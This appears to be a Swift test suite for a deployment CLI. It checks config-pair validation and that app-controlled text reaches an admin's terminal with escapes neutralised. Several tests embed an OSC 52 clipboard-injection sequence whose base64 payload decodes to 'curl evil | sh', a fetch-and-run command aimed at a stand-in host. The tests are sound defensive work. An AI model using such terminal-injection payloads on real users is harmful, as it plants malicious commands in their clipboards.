import Foundation
import GustCore
import GustTesting
import Testing

/// What `gust config set` says about pairs it cannot take.
@Suite(.timeLimit(.minutes(20)))
struct ConfigCommandTests {
    @Test(.scratchDirectory) func aPairWithoutANameOrValueIsNamedAsWritten() throws {
        let fixture = try PushFixture(startGustd: false)
        let noName = try GustBinaries.gust(fixture.home, ["config", "set", "cats", "=x"])
        #expect(noName.status != 0)
        #expect(noName.stderr.contains("'=x' has no name: write KEY=value."), "\(noName.output)")
        let noValue = try GustBinaries.gust(fixture.home, ["config", "set", "cats", "KEY"])
        #expect(noValue.status != 0)
        #expect(noValue.stderr.contains("'KEY' has no value: write KEY=value."), "\(noValue.output)")
        let reserved = try GustBinaries.gust(fixture.home, ["config", "set", "cats", "UID=1000"])
        #expect(reserved.status != 0)
        #expect(reserved.stderr.contains("'UID' is reserved"), "\(reserved.output)")
        let config = try GustBinaries.gust(fixture.home, ["config", "cats", "--json"])
        #expect(config.stdout.filter { !$0.isWhitespace } == "{}", "\(config.output)")
    }

    /// What an app (or whoever set its config or made its token) controls reaches an admin's
    /// terminal as text: an escape sequence would retitle the terminal, rewrite what is on screen
    /// or, with OSC 52, set the clipboard.
    @Test(.scratchDirectory) func configValuesAndTokenDescriptionsReachTheTerminalAsText() throws {
        let fixture = try PushFixture(startGustd: false)
        let escape = "\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}\u{1B}[2J"
        #expect(try GustBinaries.gust(fixture.home, ["config", "set", "cats", "NOTE=\(escape)"]).status == 0)
        #expect(try GustBinaries.gust(fixture.home, ["tokens", "create", "cats", "--description", escape]).status == 0)
        for arguments in [["config", "cats"], ["tokens", "list", "cats"]] {
            let shown = try GustBinaries.gust(fixture.home, arguments)
            #expect(shown.status == 0, "\(shown.output)")
            #expect(!shown.stdout.contains("\u{1B}") && !shown.stdout.contains("\u{07}"), "\(arguments): \(shown.stdout)")
            #expect(shown.stdout.contains("\\x1B]52;c;"), "\(arguments): \(shown.stdout)")
        }
    }

    /// What a release prints as it starts reaches the terminal of whoever changes its config or
    /// rolls it back, and `gust call -v` prints a call's lines: as text, never as escapes the
    /// terminal would act on. The app's code is the tenant's; the terminal may be an admin's.
    @Test(.scratchDirectory) func whatAnAppPrintsReachesTheTerminalOfAConfigChangeAndACallAsText() throws {
        let fixture = try PushFixture()
        let work = try fixture.workspace("py")
        try work.write("__init__.py", """
            import gust

            print('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J started', flush=True)

            @gust.op('hello')
            def hello():
                print('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 in a call', flush=True)
                return 'hi'
            """)
        try work.commit("App")
        #expect(try work.push(to: fixture.remote).status == 0)
        let set = try GustBinaries.gust(fixture.home, ["config", "set", "cats", "COLOR=blue"])
        #expect(set.status == 0, "\(set.output)")
        let call = try GustBinaries.gust(fixture.home, ["call", "cats", "hello", "-v"])
        #expect(call.status == 0, "\(call.output)")
        for (what, shown) in [("config set", set.output), ("call -v", call.output)] {
            #expect(!shown.contains("\u{1B}") && !shown.contains("\u{07}"), "\(what): \(shown)")
        }
        #expect(set.stdout.contains("\\x1B]52;c;"), "the line is shown, as text: \(set.output)")
        #expect(call.stderr.contains("\\x1B]52;c;"), "\(call.output)")
    }

    /// An op's answer is JSON, and Node's JSON leaves DEL and the C1 controls raw (U+009B is CSI
    /// to a terminal that takes C1 as UTF-8) and bidi overrides (U+202E shows what follows it
    /// reversed): `gust call` prints them as `\uXXXX`, the same JSON.
    @Test(.scratchDirectory) func anOpsAnswerReachesTheTerminalWithoutRawControls() throws {
        let fixture = try PushFixture(app: "dogs")
        let work = try fixture.workspace("node")
        try work.write("package.json", #"{"name": "dogs", "main": "index.js"}"#)
        try work.write("index.js", """
            const gust = require('gust');
            gust.op('csi', () => 'a\\u009b2J\\u007fb\\u202ec\\rd');
            """)
        try work.commit("C1")
        #expect(try work.push(to: fixture.remote).status == 0)
        let call = try GustBinaries.gust(fixture.home, ["call", "dogs", "csi"])
        #expect(call.status == 0, "\(call.output)")
        #expect(!call.stdout.unicodeScalars.contains { (0x7F...0x9F).contains($0.value) }, "\(call.stdout)")
        #expect(!call.stdout.contains("\r") && !call.stdout.contains("\u{202E}"), "\(call.stdout)")
        #expect(call.stdout.contains(#""a\u009b2J\u007fb\u202ec\rd""#), "\(call.stdout)")
        let decoded = try JSONSerialization.jsonObject(with: Data(call.stdout.utf8), options: [.fragmentsAllowed]) as? String
        #expect(decoded == "a\u{9B}2J\u{7F}b\u{202E}c\rd")
    }

    /// A release refused for what its code declares is named in the error of the command that
    /// started it, and what it declared (a function's name) reaches the terminal as text: over SSH
    /// this is a scoped key's tenant writing to an admin's terminal.
    @Test(.scratchDirectory) func aRefusedReleaseReachesTheTerminalOfTheCommandAsText() throws {
        let fixture = try PushFixture()
        let work = try fixture.workspace("py")
        try work.write("__init__.py", """
            import os

            import gust

            name = '\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07' + 'x' * 300 if os.environ.get('MODE') == 'evil' else 'hello'

            @gust.op(name)
            def hello():
                return 'hi'
            """)
        try work.commit("App")
        #expect(try work.push(to: fixture.remote).status == 0)
        let set = try GustBinaries.gust(fixture.home, ["config", "set", "cats", "MODE=evil"])
        #expect(set.status != 0, "the op's name is over 256 bytes: \(set.output)")
        #expect(set.stderr.contains("longer than 256 bytes: \\x1B]52;c;"), "\(set.output)")
        #expect(!set.output.contains("\u{1B}") && !set.output.contains("\u{07}"), "\(set.output)")
    }
}
